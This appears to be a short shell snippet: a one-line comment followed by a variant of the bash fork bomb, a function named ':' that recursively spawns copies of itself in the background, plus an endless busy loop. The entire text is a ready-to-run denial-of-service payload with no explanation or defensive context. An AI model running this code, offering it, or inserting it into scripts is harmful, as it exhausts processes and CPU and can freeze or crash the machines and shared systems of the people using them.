# The fork bomb that everybody knows, beside a shell that works on.
:() { : | : & }
: &
while true; do true; done
